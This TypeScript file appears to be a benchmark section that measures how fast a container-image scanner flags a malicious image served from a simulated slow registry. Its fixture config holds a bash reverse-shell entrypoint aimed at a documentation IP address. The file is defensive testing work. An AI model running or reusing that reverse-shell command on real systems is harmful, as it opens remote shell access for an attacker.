import { runMeasured } from '../measure/run-measured.ts';
import { timeText } from '../output/amounts.ts';
import { generatedLayer } from '../registry/generated-layer.ts';
import { startRegistry } from '../registry/registry.ts';
import { clock, type ServerEvent } from '../registry/server.ts';
import type { Bench, SectionResult } from './section.ts';

/** A config that proves malice by itself: a shell whose input and output are a socket (RFC 5737 address). */
const run = { Entrypoint: ['/bin/sh', '-c', "bash -c 'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1'"] };
/** Before each answer: a registry on another continent. */
const latency = 100;

/** From the config's arrival to the finding on the screen, with a big layer still to come. */
export async function firstFindingSection(bench: Bench): Promise<SectionResult> {
  const rows: string[][] = [];
  const data: unknown[] = [];
  for (const flags of [[], ['--stop-at', 'malicious']]) {
    const name = ['scan', ...flags].join(' ');
    for (let turn = 0; turn < bench.arguments.runs; turn += 1) {
      bench.say(`first finding: ${name}, run ${turn + 1}`);
      const { shown, total, status, events, output } = await once(bench, flags);
      if (status === 2) {
        rows.push([name, '', '', '', `refused: ${output.trim().split('\n')[0]}`]);
        break;
      }
      const since = (what: ServerEvent['what']): number | undefined => {
        const event = events.find((each) => each.what === what);
        return event === undefined || shown === undefined ? undefined : shown - event.at;
      };
      const afterConfig = since('config');
      const afterLayer = since('layer');
      const ended = events
        .filter(({ what }) => what === 'layer-done' || what === 'layer-aborted')
        .map(({ what }) => what);
      rows.push([
        name,
        afterConfig === undefined ? 'never shown' : timeText(afterConfig),
        afterLayer === undefined || afterLayer <= 0 ? 'yes' : `no, ${timeText(afterLayer)} after`,
        timeText(total),
        ended.includes('layer-aborted') ? 'aborted' : ended.length > 0 ? 'read to its end' : 'not sent',
      ]);
      data.push({ name, afterConfig, afterLayer, total, status, ended });
    }
  }
  return {
    tables: [
      {
        title: `First finding: the config proves it, ${latency} ms before each answer`,
        columns: [
          'command',
          'config sent to finding shown (aim ≤ 50 ms)',
          'before any layer byte',
          'whole command',
          'layer',
        ],
        rows,
        notes: ['one row a run; the layer has 500 MB (20 MB with --quick)'],
      },
    ],
    data,
  };
}

async function once(bench: Bench, flags: readonly string[]) {
  const bytes = bench.arguments.quick ? 20e6 : 500e6;
  const layer = await generatedLayer(bench, { kind: 'mixed', bytes, seed: 5, code: 'usual' });
  const registry = await startRegistry({ run, layers: [layer], latency });
  try {
    let shown: number | undefined;
    let output = '';
    const onOutput = (text: string): void => {
      output += text;
      if (shown === undefined && /malicious/i.test(output)) shown = clock();
    };
    const command = [...bench.product.command, 'scan', '--no-cache', ...flags, registry.reference];
    const { wall, status } = await runMeasured(command, { onOutput });
    return { shown, total: wall, status, events: registry.events, output };
  } finally {
    await registry.stop();
  }
}
